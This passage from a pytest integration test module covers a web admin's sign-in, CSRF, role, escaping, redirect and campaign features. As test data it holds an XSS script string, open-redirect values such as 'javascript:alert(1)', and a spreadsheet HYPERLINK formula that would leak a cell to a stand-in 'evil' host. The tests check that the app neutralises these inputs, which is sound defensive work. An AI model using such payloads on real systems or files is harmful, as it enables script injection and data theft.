"""The web admin over real HTTP (the whole app on loopback), on SQLite and PostgreSQL: sign-in,
CSRF, roles, escaping, and the pages' actions reaching the services."""

from __future__ import annotations

import csv
import io
import json
import re
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import UTC, datetime
from html import unescape
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlparse

import httpx
import pytest
from sqlalchemy import select

from kith.app import create_app
from kith.community import accounts as community_accounts
from kith.community.automation import create_rule
from kith.community.credentials import create_credential
from kith.community.lists import create_list, get_list
from kith.community.models import CustomUserList, Member
from kith.config import Settings
from kith.csvimport.report import ImportReport
from kith.db import Database
from kith.encryption import SecretBox
from kith.marketing import accounts as marketing_accounts
from kith.marketing.bounces.intake import BouncePolicy, take_in
from kith.marketing.campaigns.definition import campaign_definition, create_campaign, get_campaign
from kith.marketing.groups.members import change_members
from kith.marketing.groups.target_groups import create_group, get_group
from kith.marketing.integration import configure_integration, get_integration
from kith.marketing.mailings.definition import MailingDraft, create_mailing
from kith.marketing.models import Erasure, Mailing, Subscriber
from kith.marketing.scoring.compute import apply_model
from kith.marketing.subscriber_import import SubscriberRow, SubscriberUpsert
from kith.marketing.subscribers import find_subscriber
from kith.marketing.web.mailings import TEST_OUTCOME
from kith.signing import sign
from kith.web.accounts import FAILURE_LIMIT
from kith.web.loopback import serve_on_loopback
from tests.conftest import BACKENDS, _side_database
from tests.support.bounce_messages import postfix_dsn
from tests.support.bounce_world import add_readers, send_to_readers, with_bounce_address
from tests.support.community_world import add_events, add_list_unchecked, add_member
from tests.support.smtp_sink import SmtpSink
from tests.support.web_client import PASSWORD, WebClient, text_of

NOW = datetime(2026, 6, 15, 12, 0, tzinfo=UTC)
SCRIPT = "<script>alert('x')</script>"
ADMIN, MEMBER, MARKETER = "sam@example.org", "ann@example.org", "mia@example.org"
PAT = "pat@example.org"  # whose password a test changes
COUNTLESS = {"any": [{"activity": "login"}] * 150}  # beyond the criteria's 100 conditions


@dataclass
class Site:
    """Kith served on loopback with a community, a connection, and a login of each kind."""

    url: str
    community: Database
    marketing: Database
    settings: Settings

    def visitor(self, side: str, address: str = "127.0.0.1") -> WebClient:
        return WebClient(self.url, side, address=address)

    def signed_in(self, side: str, email: str) -> WebClient:
        client = self.visitor(side)
        client.sign_in(email)
        return client


@pytest.fixture(scope="module", params=BACKENDS)
def site(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Site]:
    """One site per backend for the module: logins cost an Argon2 hash each, so the tests
    share them (and use their own names for what they create)."""
    folder = tmp_path_factory.mktemp("web")
    with (
        contextmanager(_side_database)("community", request.param, request, folder) as community,
        contextmanager(_side_database)("marketing", request.param, request, folder) as marketing,
    ):
        yield from _served(community, marketing, folder)


def _served(community_db: Database, marketing_db: Database, folder: Path) -> Iterator[Site]:
    settings = Settings(
        data_dir=folder / "var",
        community_db_url=community_db.url,
        marketing_db_url=marketing_db.url,
        secret_key="web-test-secret",
    )
    with community_db.transaction() as session:
        add_member(session, "sam", email=ADMIN, is_super_admin=True)
        ann = add_member(session, "ann", email=MEMBER, legacy_contact_key="R-1")
        add_member(session, "bob", email="bob@example.org", legacy_contact_key="R-2")
        add_member(session, "cy", email="cy@example.org", legacy_contact_key="R-404")
        add_member(session, "pat", email=PAT)
        add_events(session, ann, "thread_started", NOW)
        for email, role in ((ADMIN, "super_admin"), (MEMBER, "member"), (PAT, "member")):
            community_accounts.create_login(
                session, email=email, role=role, password=PASSWORD, now=NOW
            )
        issued = create_credential(session, name="Marketing", by="sam", now=NOW)
    with marketing_db.transaction() as session:
        marketing_accounts.create_login(
            session, email=MARKETER, role="admin", password=PASSWORD, now=NOW
        )
        rows = [
            SubscriberRow(2, MEMBER, "R-1"),
            SubscriberRow(3, "bob@example.org", "R-2", status="unsubscribed"),
        ]
        SubscriberUpsert(session, now=NOW, source="import").write(rows, ImportReport())
    with serve_on_loopback(create_app(settings)) as url:
        with marketing_db.transaction() as session:
            configure_integration(
                session,
                box=SecretBox.from_settings(settings),
                now=NOW,
                url=f"{url}/community",
                iam_key=issued.credential.iam_key,
                password=issued.password,
                active=True,
            )
        yield Site(url, community_db, marketing_db, settings)


def _done(client: WebClient, poll: str) -> dict[str, Any]:
    """The run's JSON once the background job finished it (it runs on the server's threads)."""
    deadline = time.monotonic() + 20
    while True:
        state: dict[str, Any] = client.http.get(poll.removeprefix("/marketing")).json()
        if state["done"] or time.monotonic() > deadline:
            return state
        time.sleep(0.05)


# --- signing in -----------------------------------------------------------------------------


def test_a_page_sends_a_visitor_who_is_not_signed_in_to_sign_in_and_back(site: Site) -> None:
    visitor = site.visitor("marketing")

    refused = visitor.get("/groups", folder="Online Community")
    response = visitor.post(
        "/sign-in", {"email": MARKETER, "password": PASSWORD, "next": "/marketing/groups"}
    )

    assert refused.status_code == 303
    assert refused.headers["location"] == "/marketing/sign-in?next=%2Fmarketing%2Fgroups"
    assert response.headers["location"] == "/marketing/groups"
    cookie = response.headers["set-cookie"]
    assert "HttpOnly" in cookie and "SameSite=lax" in cookie and "Path=/marketing" in cookie
    assert "Groups" in visitor.page("/groups")


def test_a_wrong_password_is_refused_without_saying_whether_the_login_exists(site: Site) -> None:
    visitor = site.visitor("marketing")

    wrong = visitor.post("/sign-in", {"email": MARKETER, "password": "not the password"})
    unknown = visitor.post("/sign-in", {"email": "nobody@example.org", "password": PASSWORD})

    assert wrong.status_code == unknown.status_code == 401
    assert "the email or password is not right" in wrong.text
    assert "the email or password is not right" in unknown.text
    assert visitor.get("/groups").status_code == 303


def test_wrong_passwords_lock_out_their_address_but_never_the_login_from_elsewhere(
    site: Site,
) -> None:
    attacker = site.visitor("community", address="127.0.0.3")
    guess = {"email": MEMBER, "password": "a guess at it"}

    refused = [attacker.post("/sign-in", guess).status_code for _ in range(FAILURE_LIMIT)]
    locked = attacker.post("/sign-in", {"email": MEMBER, "password": PASSWORD})
    owner = site.visitor("community").post("/sign-in", {"email": MEMBER, "password": PASSWORD})

    assert refused == [401] * FAILURE_LIMIT
    assert locked.status_code == 429 and int(locked.headers["Retry-After"]) > 0
    assert "too many wrong passwords from this address" in locked.text
    assert owner.status_code == 303


def test_signing_out_ends_the_session_even_for_a_copy_of_its_cookie(site: Site) -> None:
    marketer = site.signed_in("marketing", MARKETER)
    stolen = site.visitor("marketing")
    stolen.http.cookies = httpx.Cookies(marketer.http.cookies)
    assert stolen.get("/groups").status_code == 200

    marketer.post("/sign-out")

    assert stolen.get("/groups").status_code == 303
    assert marketer.get("/groups").status_code == 303


def test_a_changed_password_signs_out_the_other_sessions(site: Site) -> None:
    here, elsewhere = (site.signed_in("community", PAT) for _ in range(2))
    new = "a much better passphrase"

    changed = here.post(
        "/account", {"password": PASSWORD, "new_password": new, "repeat_password": new}
    )

    assert changed.status_code == 200 and "Your password is changed" in changed.text
    assert here.get("/members").status_code == 200
    assert elsewhere.get("/members").status_code == 303
    site.visitor("community").sign_in(PAT, new)


def _drafts_to_a_new_group(site: Site, group: str, *names: str) -> list[int]:
    """A new group, and a draft mailing to it for each of `names`: their ids."""
    with site.marketing.transaction() as session:
        create_group(session, group, now=NOW)
        return [
            create_mailing(session, MailingDraft(name, "Hi", "<p>Hi</p>", [group]), now=NOW).id
            for name in names
        ]


# --- CSRF and roles -------------------------------------------------------------------------


def test_a_post_without_this_sessions_csrf_token_is_refused_and_changes_nothing(
    site: Site,
) -> None:
    marketer = site.signed_in("marketing", MARKETER)
    other = site.signed_in("marketing", MARKETER)
    change = {"url": "http://evil.example.org", "iam_key": "k", "active": "on"}

    missing = marketer.post("/settings/integration/edit", change, csrf=False)
    foreign = marketer.post(
        "/settings/integration/edit", {**change, "csrf_token": other.csrf_token()}, csrf=False
    )

    assert missing.status_code == foreign.status_code == 403
    assert "CSRF" in missing.text
    with site.marketing.session() as session:
        integration = get_integration(session)
        assert integration is not None and integration.base_url == f"{site.url}/community"


def test_the_sends_and_editors_posts_without_the_csrf_token_are_refused_and_change_nothing(
    site: Site,
) -> None:
    [mailing_id] = _drafts_to_a_new_group(site, "CSRF readers", "CSRF draft")
    marketer = site.signed_in("marketing", MARKETER)
    forms = {
        f"/mailings/{mailing_id}/test": {"test_to": "me@example.org"},
        f"/mailings/{mailing_id}/schedule": {"send_at": "2030-01-01T09:00", "timezone": "UTC"},
        f"/mailings/{mailing_id}/unschedule": {},
        "/scoring/edit": {"model": json.dumps({"rules": [], "grades": []})},
    }
    scripts = ("/scoring/preview", "/campaigns/1/edit/check")

    refused = [marketer.post(path, fields, csrf=False) for path, fields in forms.items()]
    refused += [
        marketer.http.post(path, json={}, headers={"Accept": "application/json"})
        for path in scripts
    ]

    assert [answer.status_code for answer in refused] == [403] * (len(forms) + len(scripts))
    with site.marketing.session() as session:
        assert session.get(Mailing, mailing_id).status == "draft"  # type: ignore[union-attr]


def test_a_link_cannot_make_a_mailing_page_claim_a_test_send(site: Site) -> None:
    claimed, other = _drafts_to_a_new_group(site, "Claim readers", "Claimed", "Other")
    marketer = site.signed_in("marketing", MARKETER)
    claim = {"tested": "boss@example.org", "failed": "call 555-0100 now", "as": "x"}
    key = site.settings.signing_key()
    signed = sign({"mailing": claimed, **claim}, key=key, purpose=TEST_OUTCOME)
    for_other = sign({"mailing": other, **claim}, key=key, purpose=TEST_OUTCOME)

    forged = [
        marketer.page(f"/mailings/{claimed}", tested="boss@example.org", test_failed="call"),
        marketer.page(f"/mailings/{claimed}", test=signed[:-2] + "AA"),
        marketer.page(f"/mailings/{claimed}", test=for_other),
    ]
    genuine = marketer.page(f"/mailings/{claimed}", test=signed)

    for page in forged:
        assert "Test sent" not in page and "Test not delivered" not in page
    assert "Test sent to boss@example.org" in text_of(genuine)


def test_a_community_member_sees_members_but_is_refused_the_admin_pages(site: Site) -> None:
    member = site.signed_in("community", MEMBER)

    assert "Members" in member.page("/members")
    for path in ("/lists", "/lists/new", "/credentials", "/rules"):
        assert member.get(path).status_code == 403, path
    refused = member.post("/credentials", {"name": "mine"})
    assert refused.status_code == 403
    assert "super admin role" in refused.text
    assert "List Builder" not in member.page("/")


def test_a_login_of_one_side_opens_nothing_on_the_other(site: Site) -> None:
    """A marketing cookie, even renamed as the community's, is signed for marketing only."""
    marketer = site.signed_in("marketing", MARKETER)
    community = site.visitor("community")
    community.http.cookies.set(
        "kith_community_session", marketer.http.cookies["kith_marketing_session"]
    )

    assert community.get("/members").status_code == 303


# --- the pages' actions -----------------------------------------------------------------------


def test_integration_settings_update_then_test_connection_shows_the_result(site: Site) -> None:
    marketer = site.signed_in("marketing", MARKETER)

    updated = marketer.post(
        "/settings/integration/edit",
        {
            "url": f"{site.url}/community",
            "iam_key": "not-a-key",
            "password": "nope",
            "active": "on",
        },
    )
    failed = marketer.post("/settings/integration/test")

    assert updated.status_code == 303
    assert failed.status_code == 502
    assert "The connection failed (unauthorized)" in text_of(failed.text)

    with site.community.transaction() as session:
        issued = create_credential(session, name="Second", by="sam", now=NOW)
    marketer.post(
        "/settings/integration/edit",
        {
            "url": f"{site.url}/community",
            "iam_key": issued.credential.iam_key,
            "password": issued.password,
            "active": "on",
        },
    )
    worked = marketer.post("/settings/integration/test")

    assert worked.status_code == 200
    assert "Connected: the community at" in text_of(worked.text)
    assert issued.password not in marketer.page("/settings/integration/edit")


def test_refresh_then_sync_without_a_worker_fills_the_group_and_says_who_was_left_out(
    site: Site,
) -> None:
    with site.community.transaction() as session:
        create_list(
            session,
            name="Informz Everyone",
            criteria={"field": "contact_key", "op": "in", "value": ["sam", "ann", "bob", "cy"]},
            by="sam",
            now=NOW,
        )
    marketer = site.signed_in("marketing", MARKETER)

    refreshed = marketer.post("/groups/refresh")
    with site.marketing.session() as session:
        group_id = get_group(session, "Everyone").id
    before = marketer.page(f"/groups/{group_id}")
    started = marketer.post_json(f"/groups/{group_id}/sync", {})
    state = _done(marketer, started.json()["poll"])
    after = marketer.page(f"/groups/{group_id}")
    diagnosis = text_of(marketer.page(f"/groups/{group_id}/diagnosis"))

    assert "Added Everyone" in text_of(refreshed.text)
    assert '<button type="submit" id="sync-button">Sync Target Group Now</button>' in before
    assert started.status_code == 202 and started.json()["status"] == "in progress"
    assert state["status"] == "completed"
    result = text_of(state["html"])
    assert "4 in the list, 1 members in the group" in result
    for reason in ("missing_contact_key", "no_matching_subscriber", "unsubscribed"):
        assert f"({reason})" in result
    assert '<button type="submit" id="sync-button">Resync Now</button>' in after
    assert "the list had 4 members; 1 are in the group and 3 were left out" in diagnosis
    rejected = marketer.get(f"/groups/{group_id}/rejected.csv")
    assert rejected.headers["content-type"].startswith("text/csv")
    assert sorted(rejected.text.splitlines()[1:]) == [
        "bob,R-2,bob@example.org,unsubscribed",
        "cy,R-404,cy@example.org,no_matching_subscriber",
        "sam,,sam@example.org,missing_contact_key",
    ]


def test_the_rejected_members_csv_quotes_member_cells_that_would_run_as_formulas(
    site: Site,
) -> None:
    formulas = ('=HYPERLINK("http://evil.example/?"&A1,"Open")', "@SUM(1+1)", "-2+3")
    with site.community.transaction() as session:
        add_member(session, formulas[0], legacy_contact_key=formulas[1], email=formulas[2])
        create_list(
            session,
            name="Informz Formulas",
            criteria={"field": "contact_key", "op": "eq", "value": formulas[0]},
            by="sam",
            now=NOW,
        )
    marketer = site.signed_in("marketing", MARKETER)
    marketer.post("/groups/refresh")
    with site.marketing.session() as session:
        group_id = get_group(session, "Formulas").id
    _done(marketer, marketer.post_json(f"/groups/{group_id}/sync", {}).json()["poll"])

    rejected = marketer.get(f"/groups/{group_id}/rejected.csv")

    assert rejected.status_code == 200
    assert list(csv.reader(io.StringIO(rejected.text, newline="")))[1:] == [
        ["'" + cell for cell in formulas] + ["malformed_email"]
    ]


def test_list_builder_counts_before_saving_and_names_the_bad_criterion_in_words(
    site: Site,
) -> None:
    admin = site.signed_in("community", ADMIN)

    counted = admin.post_json("/lists/preview", {"criteria": {"activity": "thread_started"}})
    refused = admin.post_json("/lists/preview", {"criteria": {"all": [{"activity": "posted"}]}})
    nested = {"all": [{"activity": "any"}, {"any": [{"activity": "any", "min": 3, "max": 1}]}]}
    misread = admin.post_json("/lists/preview", {"criteria": nested})
    empty_group = {"all": [{"activity": "any"}, {"any": []}]}
    saved = admin.post("/lists/new", {"name": "Informz X", "criteria": json.dumps(empty_group)})

    assert counted.status_code == 200
    assert counted.json() == {
        "count": 1,
        "sample": [{"contact_key": "ann", "name": "", "email": MEMBER}],
    }
    assert refused.status_code == 422
    assert refused.json()["message"] == "Criterion 1: there is no activity type 'posted'."
    assert misread.json()["message"] == "Criterion 2.1: “at least” (3) is more than “at most” (1)."
    assert saved.status_code == 422
    assert "Criterion 2: this group is empty: add a criterion to it or remove it." in saved.text
    assert "criteria.all" not in saved.text


def test_a_list_named_with_the_prefix_in_the_middle_is_saved_with_a_warning(site: Site) -> None:
    admin = site.signed_in("community", ADMIN)

    saved = admin.post(
        "/lists/new", {"name": "Donors (Informz)", "criteria": '{"activity": "any"}'}
    )
    key = parse_qs(urlparse(saved.headers["location"]).query)["saved"][0]
    page = text_of(admin.page("/lists", saved=key))
    with site.community.transaction() as session:
        session.delete(session.get_one(CustomUserList, get_list(session, key).id))

    assert saved.status_code == 303
    assert (
        "Saved, but “Donors (Informz)” will not reach marketing: Informz is in the name but not "
        "at its start; rename the list to begin with it. It stays a list for the community only."
    ) in page
    assert "Donors (Informz) saved community only" in page


def test_list_builder_shows_a_list_it_cannot_count_with_its_error_and_counts_the_others(
    site: Site,
) -> None:
    with site.community.transaction() as session:
        counted = add_list_unchecked(session, "Thread starters", {"activity": "thread_started"})
        too_large = add_list_unchecked(session, "Saved before the limits", {"not": COUNTLESS})
    admin = site.signed_in("community", ADMIN)

    try:
        page = text_of(admin.page("/lists"))
    finally:
        with site.community.transaction() as session:
            session.delete(session.get_one(CustomUserList, too_large.id))
            session.delete(session.get_one(CustomUserList, counted.id))

    assert "Thread starters community only 1" in page
    assert (
        "Saved before the limits community only cannot count: criteria.not.any[98]: the criteria "
        "have more than 100 conditions and groups"
    ) in page


def test_a_new_credentials_password_is_shown_once(site: Site) -> None:
    admin = site.signed_in("community", ADMIN)

    created = admin.post("/credentials", {"name": "Another connection"})
    password = re.search(r'id="issued-password">([^<]+)<', created.text)

    assert created.status_code == 200 and password is not None
    assert password.group(1) not in admin.page("/credentials")


def test_names_and_subjects_with_script_are_shown_escaped(site: Site) -> None:
    with site.community.transaction() as session:
        create_list(
            session, name=f"Informz {SCRIPT}", criteria={"activity": "any"}, by="sam", now=NOW
        )
        create_rule(
            session,
            name=f"Rule {SCRIPT}",
            criteria={"activity": "any"},
            action="send_email",
            subject=SCRIPT,
            by="sam",
            now=NOW,
        )
    with site.marketing.transaction() as session:
        group = create_group(session, f"Group {SCRIPT}", now=NOW)
        group_id = group.id
    marketer = site.signed_in("marketing", MARKETER)
    admin = site.signed_in("community", ADMIN)
    created = marketer.post(
        "/mailings/new",
        {"name": "Hello", "subject": SCRIPT, "html": "<p>Hi</p>", "include": f"Group {SCRIPT}"},
    )
    mailing_page = marketer.page(created.headers["location"].removeprefix("/marketing"))

    for html in (
        admin.page("/lists"),
        admin.page("/rules"),
        marketer.page("/groups"),
        marketer.page(f"/groups/{group_id}"),
        mailing_page,
        marketer.page("/mailings"),
    ):
        assert SCRIPT not in html
        assert "&lt;script&gt;alert(" in html


def test_a_template_error_is_shown_with_its_line_and_column(site: Site) -> None:
    with site.marketing.transaction() as session:
        create_group(session, "Template test", now=NOW)
    marketer = site.signed_in("marketing", MARKETER)

    refused = marketer.post(
        "/mailings/new",
        {
            "name": "Oops",
            "subject": "Hi",
            "html": "<p>Hello</p>\n<p>{{ frist_name }}</p>",
            "include": "Donors",
        },
    )

    assert refused.status_code == 422
    problem = 'data-line="2">HTML body, line 2, column 7</a>: unknown field &#39;frist_name'
    assert problem in refused.text
    with site.marketing.session() as session:
        assert session.scalar(select(Mailing.id).where(Mailing.name == "Oops")) is None


def test_a_mailing_made_from_the_designer_goes_back_to_the_designer_and_nowhere_else(
    site: Site,
) -> None:
    with site.marketing.transaction() as session:
        create_group(session, "Back readers", now=NOW)
    marketer = site.signed_in("marketing", MARKETER)
    mailing = {"subject": "Hi", "html": "<p>Hi</p>", "include": "Back readers"}
    elsewhere = [
        "//evil.example/x",
        "\\\\evil.example",
        "/\\evil.example",
        "javascript:alert(1)",
        "https://evil.example/marketing/campaigns/new",
        "/marketing/campaigns/new/../../../x",
        "/marketing/groups",
    ]

    designer = marketer.post(
        "/mailings/new", {**mailing, "name": "Back", "back": "/marketing/campaigns/new"}
    )
    kept = marketer.page("/mailings/new", back="/marketing/campaigns/7/edit")
    forms = [marketer.page("/mailings/new", back=back) for back in elsewhere]
    made = [
        marketer.post("/mailings/new", {**mailing, "name": f"Back {n}", "back": back})
        for n, back in enumerate(elsewhere)
    ]

    assert designer.headers["location"] == "/marketing/campaigns/new"
    assert 'name="back" value="/marketing/campaigns/7/edit"' in kept
    for back, form, answer in zip(elsewhere, forms, made, strict=True):
        assert 'name="back"' not in form and "evil" not in form, back
        assert re.fullmatch(r"/marketing/mailings/[0-9]+", answer.headers["location"]), back


def test_a_campaigns_steps_and_a_subscribers_score_are_shown(site: Site) -> None:
    with site.marketing.transaction() as session:
        group = create_group(session, "Welcomed", now=NOW)
        change_members(session, group, [["remote_id"], ["R-1"]], now=NOW)
        draft = MailingDraft(name="Welcome", subject="Hi", html="<p>Hi</p>", include=["Welcomed"])
        create_mailing(session, draft, now=NOW)
        campaign_id = create_campaign(
            session,
            {
                "name": "Welcome series",
                "activation": {"group": "Welcomed", "mode": "both"},
                "steps": [{"id": "welcome", "mailing": "Welcome"}],
            },
            now=NOW,
        ).id
        apply_model(
            session,
            {
                "rules": [{"name": "welcomed", "group": "Welcomed", "points": 5}],
                "grades": [{"grade": "A", "min_score": 5}],
            },
            now=NOW,
        )
    marketer = site.signed_in("marketing", MARKETER)

    listed = text_of(marketer.page("/campaigns"))
    activated = marketer.post(f"/campaigns/{campaign_id}/activate")
    shown = text_of(marketer.page(f"/campaigns/{campaign_id}"))
    explained = text_of(marketer.page("/scoring", who="R-1"))

    assert (
        "Welcome series inactive Welcomed: everyone in it at activation, then people as they "
        "enter it" in listed
    )
    assert activated.status_code == 303
    assert "Status active" in shown and "welcome" in shown
    assert "ann@example.org: 5 points, grade A" in explained


def test_who_waits_at_a_step_the_campaign_does_not_have_is_refused_naming_it(site: Site) -> None:
    _drafts_to_a_new_group(site, "Stepped", "Stepped hello")
    with site.marketing.transaction() as session:
        campaign_id = create_campaign(
            session,
            {
                "name": "Stepped series",
                "activation": {"group": "Stepped", "mode": "both"},
                "steps": [{"id": "hello", "mailing": "Stepped hello"}],
            },
            now=NOW,
        ).id
    marketer = site.signed_in("marketing", MARKETER)

    known = marketer.get(f"/campaigns/{campaign_id}/people", step="hello")
    unknown = marketer.get(f"/campaigns/{campaign_id}/people", step="Call 555-0100", passed="true")

    assert known.status_code == 200 and "Nobody waits at this step." in text_of(known.text)
    assert unknown.status_code == 404
    assert "'Stepped series' has no step 'Call 555-0100'" in unescape(text_of(unknown.text))


def test_a_campaign_is_made_from_a_template_or_from_its_steps_and_a_bad_one_is_refused(
    site: Site,
) -> None:
    with site.marketing.transaction() as session:
        create_group(session, "Quiet ones", now=NOW)
        draft = MailingDraft(
            name="Hello again", subject="Hi", html="<p>Hi</p>", include=["Quiet ones"]
        )
        create_mailing(session, draft, now=NOW)
    marketer = site.signed_in("marketing", MARKETER)
    definition = {
        "name": "Nudge the quiet ones",
        "activation": {"group": "Quiet ones", "mode": "over_time"},
        "steps": [{"id": "hello", "mailing": "Hello again"}, {"id": "ask", "wait": {"days": 7}}],
    }
    bad = definition | {
        "name": "Ask first",
        "steps": [{"id": "ask", "decide": {"opened": "any"}, "yes": []}],
    }

    form = text_of(marketer.page("/campaigns/new"))
    from_template = marketer.post("/campaigns/new", {"template": "recognition"})
    from_steps = marketer.post("/campaigns/new", {"definition": json.dumps(definition)})
    refused = marketer.post("/campaigns/new", {"definition": json.dumps(bad)})
    not_json = marketer.post("/campaigns/new", {"definition": '{"name": '})
    twice = marketer.post("/campaigns/new", {"template": "recognition"})

    assert "Recognize first threads" in form and "Welcome new members" in form
    assert from_template.status_code == from_steps.status_code == 303
    shown = text_of(marketer.page(from_steps.headers["location"].removeprefix("/marketing")))
    assert (
        "Status inactive" in shown
        and "Quiet ones: people as they enter it" in shown
        and "hello" in shown
    )
    made = text_of(marketer.page(from_template.headers["location"].removeprefix("/marketing")))
    assert "Activated by Started Their First Thread: people as they enter it" in made  # its list
    with site.community.session() as session:  # ... in List Builder, over the community API
        assert session.scalar(
            select(CustomUserList.id).where(
                CustomUserList.name == "Informz Started Their First Thread"
            )
        )
    assert refused.status_code == 422 and "step ask: a Decide must come right after a Wait" in (
        text_of(refused.text)
    )
    assert '"id": "ask"' in unescape(refused.text)  # the definition, shown to be corrected
    assert not_json.status_code == 422 and "definition: not JSON" in text_of(not_json.text)
    assert twice.status_code == 409 and "already named" in text_of(twice.text)


def test_a_campaigns_steps_are_edited_as_written_and_a_bad_edit_is_refused(site: Site) -> None:
    with site.marketing.transaction() as session:
        create_group(session, "Edited ones", now=NOW)
        draft = MailingDraft(
            name="Edit me", subject="Hi", html="<p>Hi</p>", include=["Edited ones"]
        )
        create_mailing(session, draft, now=NOW)
        campaign_id = create_campaign(
            session,
            {
                "name": "Edited",
                "activation": {"group": "Edited ones", "mode": "at_once"},
                "steps": [{"id": "hi", "mailing": "Edit me"}],
            },
            now=NOW,
        ).id
    marketer = site.signed_in("marketing", MARKETER)
    editor = unescape(marketer.page(f"/campaigns/{campaign_id}/edit"))
    shown = json.loads(
        editor.split('name="definition"')[1].split(">", 1)[1].split("</textarea>")[0]
    )
    edited = shown | {"steps": [*shown["steps"], {"id": "pause", "wait": {"days": 2}}]}
    broken = shown | {"steps": [{"id": "hi", "mailing": "No such mailing"}]}

    saved = marketer.post(f"/campaigns/{campaign_id}/edit", {"definition": json.dumps(edited)})
    refused = marketer.post(f"/campaigns/{campaign_id}/edit", {"definition": json.dumps(broken)})

    assert shown["steps"] == [{"id": "hi", "mailing": "Edit me"}]
    assert saved.status_code == 303 and saved.headers["location"].endswith("?saved=in_place")
    page = text_of(marketer.page(f"/campaigns/{campaign_id}", saved="in_place"))
    assert "Saved: the steps changed in place." in page and "pause wait 2 days" in page
    assert refused.status_code == 422 and "step hi:" in text_of(refused.text)
    assert "No such mailing" in unescape(refused.text)  # what was typed, to be corrected


def test_the_designer_asks_what_saving_a_draft_does_and_a_refusal_names_where(
    site: Site,
) -> None:
    with site.marketing.transaction() as session:
        create_group(session, "Drafted ones", now=NOW)
        draft = MailingDraft("Draft me", "Hi", "<p>Hi</p>", include=["Drafted ones"])
        create_mailing(session, draft, now=NOW)
        written = {
            "name": "Drafted",
            "activation": {"group": "Drafted ones", "mode": "at_once"},
            "steps": [{"id": "hi", "mailing": "Draft me"}],
        }
        campaign_id = create_campaign(session, written, now=NOW).id
    marketer = site.signed_in("marketing", MARKETER)
    check = f"/campaigns/{campaign_id}/edit/check"
    added = {**written, "steps": [*written["steps"], {"id": "bye", "notify": "a@example.org"}]}

    planned = marketer.post_json(check, {"definition": added})
    wrong_address = marketer.post_json(
        check, {"definition": {**added, "steps": [{"id": "hi", "notify": "nobody"}]}}
    )
    twice = marketer.post_json(
        check, {"definition": {**written, "steps": [{"id": "hi", "mailing": "Draft me"}] * 2}}
    )
    backwards = marketer.post_json(
        check,
        {
            "definition": {
                **written,
                "starts_at": "2027-01-02T00:00:00Z",
                "stops_at": "2027-01-01T00:00:00Z",
            }
        },
    )

    assert planned.json() == {"in_place": ["hi", "bye"], "new_version": []}
    assert wrong_address.status_code == 422
    assert wrong_address.json() | {"message": ""} == {
        "message": "",
        "step": "hi",
        "field": None,
        "setting": None,
    }
    assert "step hi: notify:" in wrong_address.json()["message"]
    assert twice.json() | {"message": ""} == {
        "message": "",
        "step": "hi",
        "field": "id",
        "setting": None,
    }
    assert backwards.json() == {
        "message": "the stop date must come after the start date",
        "step": None,
        "field": None,
        "setting": "stops_at",
    }
    with site.marketing.session() as session:
        assert campaign_definition(session, get_campaign(session, campaign_id)) == written


def test_the_scoring_model_is_edited_as_written_and_everyone_scored(site: Site) -> None:
    with site.marketing.transaction() as session:
        create_group(session, "Scored ones", now=NOW)
    marketer = site.signed_in("marketing", MARKETER)
    model = {
        "rules": [
            {"name": "threads", "activity": ["thread_started"], "points": 3, "within_days": 30},
            {"name": "scored ones", "group": "Scored ones", "points": 4},
        ],
        "grades": [{"grade": "A", "min_score": 4}],
    }
    broken = model | {"rules": [{"name": "threads", "activity": [], "points": 3}]}

    saved = marketer.post("/scoring/edit", {"model": json.dumps(model)})
    editor = unescape(marketer.page("/scoring/edit"))
    refused = marketer.post("/scoring/edit", {"model": json.dumps(broken)})

    assert saved.status_code == 200
    assert re.search(r"Scored \d+ subscribers with model version \d+", text_of(saved.text))
    shown = json.loads(editor.split('name="model"')[1].split(">", 1)[1].split("</textarea>")[0])
    assert shown == model
    assert refused.status_code == 422 and "rule 1 (threads): activity must be" in text_of(
        refused.text
    )
    assert '"activity": []' in unescape(refused.text)  # what was typed, to be corrected


def test_the_search_pages_find_people_by_what_users_type(site: Site) -> None:
    marketer = site.signed_in("marketing", MARKETER)
    member = site.signed_in("community", MEMBER)
    with site.community.session() as session:
        ann = session.scalar(select(Member).where(Member.contact_key == "ann"))
        assert ann is not None

    subscribers = text_of(marketer.page("/subscribers", q="ANN@"))
    unsubscribed = text_of(marketer.page("/subscribers", status="unsubscribed"))
    members = text_of(member.page("/members", q="r-40"))
    timeline = text_of(member.page(f"/members/{ann.id}"))

    assert "1 subscriber " in subscribers and MEMBER in subscribers
    assert "bob@example.org" in unsubscribed and MEMBER not in unsubscribed
    assert "1 member " in members and "cy@example.org" in members
    assert f"{NOW:%Y-%m-%d %H:%M} UTC : thread started" in timeline


def test_the_compound_editor_defines_include_and_exclude_and_names_a_cycle(site: Site) -> None:
    with site.marketing.transaction() as session:
        for name in ("Donors", "Board"):
            create_group(session, name, now=NOW)
    marketer = site.signed_in("marketing", MARKETER)

    created = marketer.post(
        "/compound-groups/new",
        {
            "name": "Donors, not Board",
            "folder": "Main",
            "include": "Donors",
            "include_mode": "all",
            "exclude": "Board",
            "exclude_mode": "any",
        },
    )
    info = text_of(marketer.page(created.headers["location"].removeprefix("/marketing")))
    with site.marketing.session() as session:
        board, compound = (get_group(session, name).id for name in ("Board", "Donors, not Board"))
    circular = marketer.post(
        "/compound-groups/new",
        {"name": "Loop", "include": "Donors, not Board", "include_mode": "any"},
    )
    cycle = marketer.post(
        f"/groups/{compound}/compound",
        {"include": ["Donors", "Loop"], "include_mode": "any", "exclude_mode": "any"},
    )

    assert created.status_code == 303
    assert "Include In all of: Donors" in info and "Exclude In one or more of: Board" in info
    assert circular.status_code == 303 and board
    assert cycle.status_code == 422
    assert "would contain itself: Donors, not Board → Loop → Donors, not Board" in cycle.text


def test_super_admins_copy_edit_and_delete_lists_write_rules_and_revoke_credentials(
    site: Site,
) -> None:
    with site.community.transaction() as session:
        key = create_list(
            session,
            name="Informz Starters",
            criteria={"activity": "thread_started"},
            by="sam",
            now=NOW,
        ).list_key
        iam_key = create_credential(
            session, name="Old connection", by="sam", now=NOW
        ).credential.iam_key
    admin = site.signed_in("community", ADMIN)

    copy = admin.page("/lists/new", copy=key)
    edited = admin.post(
        f"/lists/{key}/edit", {"name": "Informz Starters Again", "criteria": '{"activity": "any"}'}
    )
    bad = admin.post(f"/lists/{key}/edit", {"name": "Informz Starters", "criteria": "{not json"})
    rule = admin.post(
        "/rules/new",
        {
            "name": "Thank starters",
            "action": "send_email",
            "subject": "Thanks!",
